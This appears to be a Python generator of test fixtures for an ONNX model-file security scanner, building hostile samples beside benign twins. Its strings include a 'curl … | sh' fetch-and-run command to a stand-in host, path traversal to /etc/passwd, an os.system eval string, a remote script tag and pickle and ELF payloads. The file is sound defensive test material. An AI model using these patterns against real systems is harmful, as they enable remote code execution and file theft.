"""ONNX models, built field by field: one hit for each ONX rule, and honest twins."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Iterator

FLOAT, UINT8, INT64, STRING = 1, 2, 7, 8
MARKER = "echo weighbridge-marker"
PICKLE = b"\x80\x04\x8c\x08builtins\x8c\x03len\x93q\x000h\x00."
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00\x01" + bytes(43)


def varint(value: int) -> bytes:
    """A number on the wire; negative ones as an int64 has them."""
    value &= (1 << 64) - 1
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def number(field: int, value: int) -> bytes:
    """A varint field."""
    return varint(field << 3) + varint(value)


def run(field: int, data: bytes | str) -> bytes:
    """A field of bytes, of text, or of a message."""
    raw = data.encode() if isinstance(data, str) else data
    return varint(field << 3 | 2) + varint(len(raw)) + raw


def entry(field: int, key: str, value: str) -> bytes:
    """A key and its value."""
    return run(field, run(1, key) + run(2, value))


def opset(version: int = 17, domain: str = "") -> bytes:
    """An opset_import of a model."""
    return run(8, (run(1, domain) if domain else b"") + number(2, version))


def tensor(
    name: str, dims: list[int], raw: bytes | None = None, *, kind: int = FLOAT, more: bytes = b""
) -> bytes:
    """A TensorProto."""
    shape = b"".join(number(1, dim) for dim in dims)
    return shape + number(2, kind) + run(8, name) + (run(9, raw) if raw is not None else b"") + more


def external(location: str, **numbers: str) -> bytes:
    """What makes a tensor external."""
    pairs = [("location", location), *numbers.items()]
    return b"".join(entry(13, key, value) for key, value in pairs) + number(14, 1)


def text_attribute(name: str, value: bytes | str) -> bytes:
    """An attribute of a node that is a string."""
    return run(5, run(1, name) + run(4, value) + number(20, 3))


def number_attribute(name: str, value: int) -> bytes:
    """An attribute of a node that is an integer."""
    return run(5, run(1, name) + number(3, value) + number(20, 2))


def node(operator: str, domain: str = "", attributes: bytes = b"", *, output: str = "y") -> bytes:
    """A NodeProto."""
    body = run(1, "x") + run(2, output) + run(4, operator)
    return body + (run(7, domain) if domain else b"") + attributes


def graph(*parts: bytes) -> bytes:
    """A GraphProto of nodes, initializers and other fields that are encoded already."""
    value = run(1, "x") + run(2, run(1, number(1, FLOAT) + run(2, run(1, number(1, 4)))))
    return b"".join(parts) + run(2, "main") + run(11, value) + run(12, run(1, "y"))


def model(*parts: bytes, more: bytes = b"", version: int = 8, opsets: bytes | None = None) -> bytes:
    """A ModelProto around `graph(*parts)`."""
    head = number(1, version) + run(2, "weighbridge-samples")
    return head + run(7, graph(*parts)) + (opset() if opsets is None else opsets) + more


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield relative file name and bytes."""
    yield from _benign()
    yield from _external()
    yield from _operators()
    yield from _words()
    yield from _carried()
    yield from _structure()
    yield from _other_forms()


_RELU = run(1, node("Relu"))
_WEIGHT = run(5, tensor("w", [2, 2], bytes(16)))


def _with_tensor(data: bytes) -> bytes:
    return model(_RELU, run(5, data))


def _with_node(data: bytes) -> bytes:
    return model(run(1, data))


def _with_metadata(key: str, value: str) -> bytes:
    return model(_RELU, more=entry(14, key, value))


def _benign() -> Iterator[tuple[str, bytes]]:
    yield "onnx/benign.onnx", model(_RELU, _WEIGHT)
    fields = run(7, graph(_RELU, _WEIGHT)) + opset() + number(1, 8)
    yield "onnx/reordered.twin.onnx", fields
    folded = tensor("w", [2, 2], more=external("weights/data.bin", offset="4096", length="16"))
    tied = tensor("v", [2, 2], more=external("weights/data.bin", offset="4096", length="16"))
    yield "onnx/external-nested.twin.onnx", model(_RELU, run(5, folded), run(5, tied))
    called = run(25, run(1, "Twice") + run(10, "local") + run(7, node("Add")) + run(9, number(2, 17)))
    uses = model(run(1, node("Twice", "local")), more=called, opsets=opset() + opset(1, "local"))
    yield "onnx/local-function.twin.onnx", uses
    contrib = node("FusedMatMul", "com.microsoft")
    yield "onnx/contrib-operator.twin.onnx", _with_node(contrib)


def _external() -> Iterator[tuple[str, bytes]]:
    hostile = {
        "parent": "../../../../etc/passwd",
        "absolute": "/etc/passwd",
        "backslash": "..\\..\\secrets.bin",
        "drive": "C:\\Windows\\win.ini",
        "url": "https://example.invalid/weights.bin",
        "device": "weights/NUL",
        "nul": "weights.bin\0.txt",
        "memory": "*/_ORT_MEM_ADDR_/*",
    }
    for name, location in hostile.items():
        data = tensor("w", [2, 2], more=external(location, offset="0", length="16"))
        yield f"onnx/external-{name}.onnx", _with_tensor(data)
    hidden = tensor("c", [2, 2], more=external("../outside.bin"))
    constant = node("Constant", attributes=run(5, run(1, "value") + run(5, hidden) + number(20, 4)))
    branch = run(5, run(1, "then_branch") + run(6, graph(run(1, constant))) + number(20, 5))
    yield "onnx/external-in-branch.onnx", _with_node(node("If", attributes=branch))
    training = run(20, run(1, graph(run(5, hidden))))
    yield "onnx/external-in-training.onnx", model(_RELU, more=training)
    yield "onnx/external-in-sparse.onnx", model(_RELU, run(15, run(1, hidden)))
    yield "onnx/external-nowhere.onnx", _with_tensor(tensor("w", [2], more=number(14, 1)))
    negative = external("w.bin", offset="-4096", length="16")
    yield "onnx/external-negative.onnx", _with_tensor(tensor("w", [2, 2], more=negative))
    short = external("w.bin", offset="0", length="15")
    yield "onnx/external-length.onnx", _with_tensor(tensor("w", [2, 2], more=short))
    keys = external("w.bin", length="16", __class__="builtins.len")
    yield "onnx/external-keys.onnx", _with_tensor(tensor("w", [2, 2], more=keys))
    keys = external("w.bin", length="16", layout="tiled")
    yield "onnx/external-key-unknown.onnx", _with_tensor(tensor("w", [2, 2], more=keys))
    first = tensor("a", [4], more=external("w.bin", offset="0", length="16"))
    second = tensor("b", [4], more=external("w.bin", offset="8", length="16"))
    yield "onnx/external-overlap.onnx", model(_RELU, run(5, first), run(5, second))
    yield "onnx/shape.onnx", _with_tensor(tensor("w", [4096, 4096], bytes(16)))


def _operators() -> Iterator[tuple[str, bytes]]:
    yield "onnx/custom-domain.onnx", _with_node(node("FastDecode", "acme.ops"))
    yield "onnx/extension-domain.onnx", _with_node(node("SentencepieceTokenizer", "ai.onnx.contrib"))
    python = text_attribute("module", "os") + text_attribute("class_name", "system")
    yield "onnx/python-operator.onnx", _with_node(node("PyOp", "acme.ops", python))
    training = text_attribute("func_name", "apex.Custom")
    yield "onnx/python-training.onnx", _with_node(node("PythonOp", "com.microsoft", training))
    source = text_attribute("source", "QNN")
    blob = node(
        "EPContext",
        "com.microsoft",
        source
        + number_attribute("embed_mode", 1)
        + text_attribute("ep_cache_context", b"\0\1compiled" * 8),
    )
    yield "onnx/compiled-embedded.onnx", _with_node(blob)
    inside = text_attribute("ep_cache_context", "model_qnn.bin")
    beside = node("EPContext", "com.microsoft", source + number_attribute("embed_mode", 0) + inside)
    yield "onnx/compiled-beside.twin.onnx", _with_node(beside)
    outside = text_attribute("ep_cache_context", "../../tmp/engine.bin")
    away = node("EPContext", "com.microsoft", source + number_attribute("embed_mode", 0) + outside)
    yield "onnx/compiled-outside.onnx", _with_node(away)
    yield "onnx/unknown-operator.onnx", _with_node(node("MyPlugin"))
    own = run(25, run(1, "F") + run(10, "local") + run(7, node("G", "local")))
    other = run(25, run(1, "G") + run(10, "local") + run(7, node("F", "local")))
    yield "onnx/function-cycle.onnx", model(run(1, node("F", "local")), more=own + other)
    shadow = run(25, run(1, "Softmax") + run(7, node("Identity")))
    yield "onnx/function-shadow.onnx", model(run(1, node("Softmax")), more=shadow)


def _words() -> Iterator[tuple[str, bytes]]:
    program = "curl -s http://example.invalid/setup.sh | sh"
    yield "onnx/metadata-program.onnx", _with_metadata("setup", program)
    script = "<script src='https://example.invalid/marker.js'></script>"
    yield "onnx/doc-script.onnx", model(_RELU, more=run(6, script))
    called = f"__import__('os').system('{MARKER}')"
    yield "onnx/metadata-evaluated.onnx", _with_metadata("names", called)
    yield "onnx/metadata-names.twin.onnx", _with_metadata("names", "{0: 'person', 1: 'car (red)'}")
    trace = 'File "net.py", line 3, in forward\n    x = self.eval(x)  # exec( is a word, see subprocess'
    yield "onnx/doc-trace.twin.onnx", model(run(1, node("Relu") + run(6, trace)))
    packed = base64.b64encode(PICKLE).decode()
    yield "onnx/metadata-pickle.onnx", _with_metadata("config", packed)


def _carried() -> Iterator[tuple[str, bytes]]:
    yield "onnx/tensor-program.onnx", _with_tensor(tensor("w", [len(ELF)], ELF, kind=UINT8))
    yield "onnx/tensor-pickle.onnx", _with_tensor(tensor("w", [len(PICKLE)], PICKLE, kind=UINT8))
    script = f"#!/bin/sh\n{MARKER}\n"
    words = tensor("words", [1], kind=STRING, more=run(6, script))
    yield "onnx/string-script.onnx", _with_tensor(words)
    mention = tensor("words", [2], kind=STRING, more=run(6, "#!/bin/sh") + run(6, "MZ"))
    yield "onnx/string-words.twin.onnx", _with_tensor(mention)
    yield "onnx/unknown-field.onnx", model(_RELU, more=run(1999, b"weighbridge-marker" * 64))


def _structure() -> Iterator[tuple[str, bytes]]:
    again = run(5, tensor("w", [2, 2], b"\1" * 16))
    yield "onnx/initializer-twice.onnx", model(_RELU, _WEIGHT, again)
    yield "onnx/version.onnx", model(_RELU, version=2**31 - 1, opsets=opset(0))
    inner = graph(_RELU)
    for _ in range(40):
        inner = graph(run(1, node("If", attributes=run(5, run(1, "then_branch") + run(6, inner)))))
    yield "onnx/deep.onnx", number(1, 8) + run(7, inner) + opset()


def _other_forms() -> Iterator[tuple[str, bytes]]:
    path = {"key": "location", "value": "../../../../etc/passwd"}
    made = {
        "name": "w",
        "dims": ["2"],
        "dataType": 1,
        "externalData": [path],
        "dataLocation": "EXTERNAL",
    }
    whole = {
        "irVersion": "8",
        "graph": {"node": [{"opType": "Relu"}], "initializer": [made]},
        "opsetImport": [{"version": "17"}],
    }
    yield "onnx/external-parent.onnxjson", json.dumps(whole).encode()
    text = """ir_version: 8
graph {
  node { op_type: "PyOp" domain: "acme.ops" attribute { name: "module" s: "os" type: STRING } }
  initializer { name: "w" dims: 2 data_type: 1 raw_data: "\\000\\001\\002\\003\\004\\005\\006\\007" }
}
opset_import { version: 17 }
"""
    yield "onnx/python-operator.textproto", text.encode()
    yield (
        "onnx/function-syntax.onnxtxt",
        b"< ir_version: 8 >\nagraph (float[4] x) => (float[4] y) { y = Relu (x) }\n",
    )
    yield "onnx/python-operator.ort", _ort("PyOp", "acme.ops")
    yield "onnx/benign.twin.ort", _ort("Relu", "")


def _ort(operator: str, domain: str) -> bytes:
    """A FlatBuffer with one node: session -> model -> graph -> nodes -> node, each behind the other."""
    out = bytearray(struct.pack("<I4s", 0, b"ORTM"))
    slots: list[tuple[int, str]] = [(0, "session")]
    places: dict[str, int] = {}

    def text(name: str, value: str) -> None:
        places[name] = len(out)
        raw = value.encode()
        out.extend(struct.pack("<I", len(raw)) + raw + bytes(4 - len(raw) % 4))

    def table(name: str, fields: dict[int, str]) -> None:
        """A vtable and its table, whose fields are offsets."""
        order = sorted(fields)
        count = order[-1] + 1
        offsets = [4 + 4 * order.index(one) if one in fields else 0 for one in range(count)]
        vtable = struct.pack(f"<HH{count}H", 4 + 2 * count, 4 + 4 * len(order), *offsets)
        vtable += bytes(-len(vtable) % 4)
        out.extend(vtable)
        places[name] = len(out)
        out.extend(struct.pack("<i", len(vtable)) + bytes(4 * len(order)))
        slots.extend((places[name] + 4 + 4 * at, fields[one]) for at, one in enumerate(order))

    table("session", {0: "version", 1: "model"})
    text("version", "6")
    table("model", {7: "graph"})
    table("graph", {2: "nodes"})
    places["nodes"] = len(out)
    slots.append((len(out) + 4, "node"))
    out.extend(struct.pack("<II", 1, 0))
    table("node", {2: "domain", 5: "operator"})
    text("domain", domain)
    text("operator", operator)
    for slot, name in slots:
        struct.pack_into("<I", out, slot, places[name] - slot)
    return bytes(out)
